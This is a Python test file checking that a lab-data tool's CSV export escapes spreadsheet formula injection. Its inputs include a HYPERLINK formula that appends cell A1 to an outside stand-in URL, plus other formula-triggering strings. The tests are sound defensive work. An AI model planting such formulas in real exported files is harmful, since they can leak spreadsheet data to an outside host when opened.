"""CSV that a spreadsheet never runs."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from impactd.console.spreadsheet import write_csv
from impactd.storage.archive import Archive
from impactd.storage.campaign_folder import read_campaign
from impactd.storage.csv_table import csv_line

LINK = '=HYPERLINK("http://example.org/?"&A1,"click")'


@pytest.mark.parametrize(
    "text",
    [LINK, "+1", "-1+1", "@SUM(A1)", "\t=1", "\rx", ' "=1', "'=1", "\uff1d1", "acetal;=1", "\n@x"],
)
def test_a_text_that_looks_like_a_formula_is_marked_as_text(text: str) -> None:
    """An apostrophe stands before the sign, wherever a spreadsheet would begin a cell."""
    (cell,) = next(csv.reader(io.StringIO(csv_line([text]), newline="")))
    assert cell.replace("'", "") == text.replace("'", "")
    for part in cell.split(";"):
        assert part.lstrip(' \t\r\n"')[:1] not in set("=+-@\uff1d") | {""}
    assert cell[:1] not in "\t\r\n"


def test_numbers_and_plain_texts_stay_as_they_are() -> None:
    """A negative number is a number; a hyphen inside a name is no formula."""
    assert csv_line([-1.5, 2, None, "acetal-2", "a=b"]) == "-1.5,2,,acetal-2,a=b\r\n"


def test_a_sphere_named_like_a_formula_is_text_in_every_csv(
    campaign_folder: Callable[..., Path], archive: Archive, tmp_path: Path
) -> None:
    """From the campaign folder through the archive into exported shots and tables of results."""

    def rename(root: dict[str, Any], _: Path) -> None:
        root["spheres"][LINK] = root["spheres"].pop("acetal")
        for shot in root["shots"]:
            shot["sphere"] = LINK

    folder = campaign_folder(rename)
    (number, *_) = archive.import_campaign(folder).numbers
    assert archive.shot(number).sphere == LINK
    files = archive.export([number], "csv", tmp_path / "out")

    (sphere,) = read_campaign(folder).spheres
    modulus = {"value": 1e9, "u": 1e7, "interval95": [-1.0, 2e9]}
    moduli = {sphere: {"youngs_modulus_Pa": modulus, "status": LINK}}
    pairs = {f"{sphere} on x": {"reduced_modulus_Pa": modulus, "shots": 3}}
    document = {"model": LINK, "moduli": moduli, "pairs": pairs, "parameters": {LINK: modulus}}
    for name, block in (("fit", document), ("diagnosis", {"before": document, "after": document})):
        write_csv(tmp_path / f"{name}.csv", json.loads(json.dumps(block)))
        files.append(tmp_path / f"{name}.csv")
    for file in files:
        with file.open(newline="", encoding="utf-8-sig") as lines:
            cells = [cell for row in csv.reader(lines) for cell in row]
        assert cells
        assert not [
            one for one in cells if one[:1] in set("=+@") or (one[:1] == "-" and not float(one))
        ]
